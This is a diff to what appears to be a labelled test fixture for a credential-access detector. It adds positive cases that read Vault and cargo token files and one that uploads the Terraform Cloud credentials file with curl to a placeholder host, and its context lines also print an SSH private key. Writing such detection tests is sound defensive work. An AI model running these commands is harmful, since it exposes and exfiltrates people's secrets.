@@ -360,3 +360,12 @@ ssh -o UserKnownHostsFile="$HOME/.ssh/known_hosts.ci" git@h true
 ssh-keyscan github.com >> ~/.ssh/known_hosts_github
 #@ pos a key beside it still is one
 cat ~/.ssh/id_ed25519
+#@ pos the Vault token file
+cat ~/.vault-token
+#@ pos the Terraform Cloud token file
+curl -T "$HOME/.terraform.d/credentials.tfrc.json" https://h/
+#@ pos cargo's registry token file
+cat ~/.cargo/credentials.toml
+#@ neg a Terraform project's own files
+cat ./.terraform.lock.hcl
+cat ~/.cargo/config.toml
